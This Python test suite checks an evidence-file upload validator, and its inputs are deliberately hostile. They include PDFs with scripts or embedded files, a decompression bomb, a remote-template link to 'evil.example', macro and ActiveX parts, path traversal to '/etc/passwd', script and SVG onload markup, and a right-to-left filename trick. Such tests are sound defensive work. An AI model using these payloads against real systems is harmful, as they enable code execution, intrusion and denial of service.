"""Evidence files: what is let in, what is refused at the door, what withdrawing does; on both databases."""

import io
import threading
import zipfile
import zlib
from pathlib import Path

import pytest
import typst
from pikepdf import Encryption
from PIL import Image
from sqlalchemy import Engine

from content.act_records import Subject, history
from content.activities import create
from content.documents import (
    FILE_MOST,
    FILES_MOST,
    PDF,
    DocumentFile,
    Documents,
    add_evidence,
    evidence_of_activities,
    find_evidence,
    restore_evidence,
    withdraw_evidence,
)
from content.errors import ContentError
from content.media import office, pdf
from content.record_tables import Activity
from scheduler.db import reading, writing
from tests.conftest import LAN, MINH, NOW
from tests.content import papers
from tests.content.test_activities import TALK


@pytest.fixture
def store(tmp_path: Path) -> Documents:
    return Documents(tmp_path / "evidence")


def put(store: Documents, data: bytes, name: str = "a") -> DocumentFile:
    return store.put(io.BytesIO(data), name)


def refused(store: Documents, data: bytes, name: str = "a.pdf") -> str:
    with pytest.raises(ContentError) as caught:
        put(store, data, name)
    assert not list(store.folder.rglob("*.*")), "nothing is left behind"
    assert caught.value.words.startswith(f"{name}: ")
    return caught.value.words


PLAIN = {
    PDF: papers.a_pdf(),
    office.DOCX: papers.a_docx(),
    office.XLSX: papers.an_xlsx(),
    "image/jpeg": papers.a_photo(place=False),
    "image/png": papers.a_photo("PNG"),
    "image/webp": papers.a_photo("WEBP"),
}


@pytest.mark.parametrize("mime", PLAIN)
def test_plain_files_are_kept_once_whatever_they_are_called(store: Documents, mime: str) -> None:
    first, second = put(store, PLAIN[mime], "Báo cáo.exe"), put(store, PLAIN[mime], "khác")
    assert (first.mime, first.sha256) == (mime, second.sha256)
    assert store.has(first.sha256, mime, first.size)
    assert len([one for one in store.folder.rglob("*") if one.is_file()]) == 1
    assert first.name.startswith("Báo cáo.exe."), "a name never promises a program"


def test_a_pdf_with_packed_objects_is_plain_too(store: Documents) -> None:
    data = papers.a_pdf(packed=True)
    assert b"ObjStm" in data
    assert put(store, data).mime == PDF


def test_a_pdf_that_this_product_makes_is_taken(store: Documents) -> None:
    made = typst.compile(b"#set document(title: [Cong van])\nXin chao", pdf_standards=["ua-1"])
    assert put(store, made).mime == PDF


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize(
    ("change", "words"),
    [
        (papers.with_script, pdf.RUNS),
        (papers.with_program, pdf.RUNS),
        (papers.with_form, pdf.RUNS),
        (papers.with_file, pdf.CARRIES),
    ],
)
def test_a_pdf_that_runs_or_carries_something_is_refused(
    store: Documents, change: object, words: str, packed: bool
) -> None:
    assert words in refused(store, papers.a_pdf(change, packed=packed))


def test_names_written_in_numbers_hide_nothing(store: Documents) -> None:
    data = papers.a_pdf(papers.with_script).replace(b"/JavaScript", b"/J#61v#61Script")
    assert pdf.RUNS in refused(store, data)


def test_a_locked_pdf_is_refused(store: Documents) -> None:
    assert pdf.LOCKED in refused(store, papers.a_pdf(encryption=Encryption(owner="a", user="b")))


def test_object_streams_that_unpack_without_end_are_refused(store: Documents) -> None:
    bomb = zlib.compress(b"\0" * (pdf.UNPACKED_MAX + 10), 9)
    stream = b"9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(bomb)
    data = papers.a_pdf().replace(b"startxref", stream + bomb + b"\nendstream\nendobj\nstartxref")
    assert pdf.STRANGE in refused(store, data)


@pytest.mark.parametrize(
    "head",
    [b"/Filter/LZWDecode", b"/Filter/LZWDecode/X(\n1 0 obj\n)", b"/Filter/LZWDecode % 1 0 obj\n", b"/#46 (a.bin)"],
)
def test_object_streams_that_cannot_be_followed_are_refused(store: Documents, head: bytes) -> None:
    stream = b"\n9 0 obj\n<<" + head + b"/Type/ObjStm/N 1/First 4>>stream\nabc\nendstream\nendobj\nstartxref"
    assert pdf.STRANGE in refused(store, papers.a_pdf().replace(b"startxref", stream))


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "rỗng"),
        (b"%PDF-1.7\nnothing", pdf.BROKEN),
        (papers.a_pdf()[:-40], pdf.BROKEN),
        (b"GIF89a" + papers.a_pdf(), "chỉ nhận"),
        (b"MZ\x90\0", "chỉ nhận"),
        (b"<html><script>alert(1)</script>", "chỉ nhận"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "chỉ nhận"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "chỉ nhận"),
        (papers.a_photo("GIF", place=False), "chỉ nhận"),
        (papers.a_photo()[:200], "hỏng"),
        (b"%PDF-1.7" + b"x" * FILE_MOST, "lớn hơn 24 MB"),
    ],
)
def test_what_is_none_of_these_is_refused(store: Documents, data: bytes, words: str) -> None:
    assert words in refused(store, data)


DOCX, XLSX = papers.a_docx(), papers.an_xlsx()
OUTSIDE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
BILLION = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>'


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (papers.changed(DOCX, {"word/vbaProject.bin": b"x"}), office.MACROS),
        (papers.changed(XLSX, {"xl/macrosheets/sheet1.xml": b"<x/>"}), office.MACROS),
        (
            papers.changed(DOCX, {}, replaced={
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml":
                b"application/vnd.ms-word.document.macroEnabled.main+xml"
            }),
            office.MACROS,
        ),
        (papers.changed(DOCX, {"word/embeddings/oleObject1.bin": b"x"}), office.CARRIES),
        (papers.changed(DOCX, {"word/embeddings/a.exe": b"MZ"}), office.CARRIES),
        (papers.changed(DOCX, {"word/embeddings/b.docm": b"PK"}), office.CARRIES),
        (papers.changed(DOCX, {"../../etc/a.xml": b"x"}), office.CARRIES),
        (papers.changed(DOCX, {"word/activeX/activeX1.xml": b"x"}), office.CARRIES),
        (papers.changed(DOCX, {"word/_rels/settings.xml.rels": OUTSIDE}), office.OUTSIDE),
        (papers.changed(DOCX, {"[Content_Types].xml": BILLION}), office.BROKEN),
        (papers.changed(DOCX, {"[Content_Types].xml": b"<Types/>"}), "không phải văn bản Word"),
        (papers.changed(XLSX, {"xl/media/a.xml": b"\0" * 20_000_000}), "bất thường"),
        (DOCX[:500], office.BROKEN),
    ],
)  # fmt: skip
def test_an_office_file_that_is_not_plain_is_refused(store: Documents, data: bytes, words: str) -> None:
    assert words in refused(store, data, "a.docx")


def test_a_zip_of_anything_else_is_refused(store: Documents) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("a.xml", "x")
    assert "không phải tệp Word" in refused(store, out.getvalue(), "a.docx")


def test_a_photo_loses_the_place_where_it_was_taken(store: Documents) -> None:
    kept = put(store, papers.a_photo(), "Ảnh hội nghị.jpg")
    with Image.open(store.path(kept.sha256, kept.mime)) as picture:
        assert not picture.getexif()
    assert kept.notes
    assert kept.name == "Ảnh hội nghị.jpg"


def test_a_name_is_one_line_without_folders(store: Documents) -> None:
    assert put(store, PLAIN[PDF], "C:\\a\\../b\u202efdp.pdf\n").name == "b\ufffdfdp.pdf\ufffd.pdf"


def test_a_hash_is_no_path(store: Documents) -> None:
    with pytest.raises(ValueError, match="passwd"):
        store.path("../../etc/passwd", PDF)
    assert not store.has("../../etc/passwd", PDF, 1)


# Rows ------------------------------------------------------------------------------------------------------


def activity(engine: Engine) -> Activity:
    with writing(engine) as session:
        return create(session, TALK, by=LAN, now=NOW).row


def added(engine: Engine, file: DocumentFile, row: Activity, words: str = "") -> int:
    with writing(engine) as session:
        return add_evidence(session, file, row, words=words, by=LAN, now=NOW).id or 0


def test_a_file_is_hidden_and_shown_again_and_never_deleted(engine: Engine, store: Documents) -> None:
    row, file = activity(engine), put(store, PLAIN[PDF], "bien-ban.pdf")
    number = added(engine, file, row, "  Biên bản\ncuộc họp ")
    assert added(engine, file, row) == number, "a second click adds nothing"
    with writing(engine) as session:
        withdraw_evidence(session, number, by=MINH, now=NOW)
        withdraw_evidence(session, number, by=LAN, now=NOW)
        assert evidence_of_activities(session, [row.id]) == []
        (hidden,) = evidence_of_activities(session, [row.id], all_=True)
        assert (hidden.withdrawn_by, hidden.words) == (MINH, "Biên bản cuộc họp")
    assert store.has(file.sha256, file.mime, file.size)
    with writing(engine) as session:
        restore_evidence(session, number, by=LAN, now=NOW)
        assert [one.id for one in evidence_of_activities(session, [row.id])] == [number]
        acts = [one.action for one in history(session, Subject.EVIDENCE, number)]
    assert acts == ["restored", "withdrawn", "recorded"]


def test_a_withdrawn_file_that_is_handed_in_again_comes_back(engine: Engine, store: Documents) -> None:
    row, file = activity(engine), put(store, PLAIN[PDF])
    number = added(engine, file, row)
    with writing(engine) as session:
        withdraw_evidence(session, number, by=LAN, now=NOW)
    assert added(engine, file, row) == number
    with reading(engine) as session:
        assert find_evidence(session, number).withdrawn_at is None


def test_too_many_files_and_too_long_words_are_refused(engine: Engine, store: Documents) -> None:
    row = activity(engine)
    with pytest.raises(ContentError):
        added(engine, put(store, PLAIN[PDF]), row, "x" * 301)
    for one in range(FILES_MOST):
        added(engine, DocumentFile(f"{one:064}", PDF, 1, "a.pdf"), row)
    with pytest.raises(ContentError):
        added(engine, DocumentFile("f" * 64, PDF, 1, "a.pdf"), row)


def test_two_who_hand_in_the_same_file_at_once_store_it_once(store: Documents) -> None:
    threads = [threading.Thread(target=put, args=(store, PLAIN[office.DOCX], "a.docx")) for _ in range(6)]
    for one in threads:
        one.start()
    for one in threads:
        one.join(30)
    assert [one.suffix for one in store.folder.rglob("*") if one.is_file()] == [".docx"]
